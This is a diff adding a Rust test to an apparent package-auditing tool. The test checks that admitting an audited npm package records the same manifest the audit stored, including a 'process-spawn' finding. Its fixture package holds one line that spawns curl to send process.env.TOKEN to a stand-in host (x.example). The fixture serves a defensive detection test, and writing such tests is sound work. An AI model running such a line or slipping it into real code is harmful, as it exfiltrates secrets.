@@ -961,3 +961,44 @@ fn imported_violation_beats_a_local_trusted_publisher() {
     assert_eq!(code(&out), Some(1), "{}", stderr(&out));
     assert_eq!(failed(&json(&out), "sigstore@1.3.0"), ["revoked"]);
 }
+
+#[test]
+fn admission_of_an_audited_build_records_the_manifest_its_audit_stored() {
+    // The admission reuses the audit's stored analysis (content::reuse): what it records must
+    // be exactly the manifest the audit stored, the same one a full inspection builds.
+    let up = Upstream::start();
+    let mut p = Published::new("tool", "1.0.0", &days_ago(10));
+    p.files.push((
+        "lib/run.js".into(),
+        b"require('child_process').exec('curl https://x.example/' + process.env.TOKEN)".to_vec(),
+    ));
+    up.publish(p);
+    let ws = Workspace::new(up, STAR);
+    let (out, _) = certify_and_admit(&ws, "npm:tool@1.0.0");
+    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
+    let ledger = std::fs::read_to_string(ws.path("ledger/audits.toml")).expect("ledger");
+    let audited: Vec<&str> = ledger
+        .lines()
+        .filter_map(|l| l.strip_prefix("manifest = \""))
+        .map(|l| l.trim_end_matches('"'))
+        .collect();
+    assert_eq!(audited.len(), 1, "{ledger}");
+    let mut recorded = Vec::new();
+    for e in std::fs::read_dir(ws.path("store/records")).expect("records") {
+        let v: serde_json::Value =
+            serde_json::from_slice(&std::fs::read(e.expect("entry").path()).expect("record"))
+                .expect("json");
+        recorded.push(v["manifest"].as_str().expect("manifest").to_string());
+    }
+    assert_eq!(recorded, audited);
+    let stored = std::fs::read_to_string(ws.path(&format!(
+        "ledger/manifests/{}.json",
+        audited[0].trim_start_matches("sha256:")
+    )))
+    .expect("stored manifest");
+    assert!(
+        stored.contains("\"analysis\""),
+        "the stored manifest names its analysis"
+    );
+    assert!(stored.contains("process-spawn"), "{stored}");
+}
